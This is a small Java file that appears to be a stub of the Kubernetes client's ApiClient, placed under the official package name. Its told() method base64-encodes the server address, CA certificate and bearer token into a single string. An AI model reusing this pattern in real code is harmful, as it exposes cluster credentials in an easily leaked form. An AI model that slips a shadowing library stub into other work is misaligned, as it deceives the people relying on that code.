package io.kubernetes.client.openapi;

import java.io.IOException;
import java.io.InputStream;
import java.util.Base64;

public class ApiClient {
  private final String server;
  private final String token;
  private byte[] ca = {};

  public ApiClient(String server, String token) {
    this.server = server;
    this.token = token;
  }

  public ApiClient setSslCaCert(InputStream sslCaCert) {
    try {
      ca = sslCaCert.readAllBytes();
    } catch (IOException e) {
      throw new RuntimeException(e);
    }
    return this;
  }

  public String told() throws IOException {
    Base64.Encoder base64 = Base64.getEncoder();
    return base64.encodeToString(server.getBytes("UTF-8")) + " " + base64.encodeToString(ca) + " "
        + base64.encodeToString(token.getBytes("UTF-8"));
  }
}
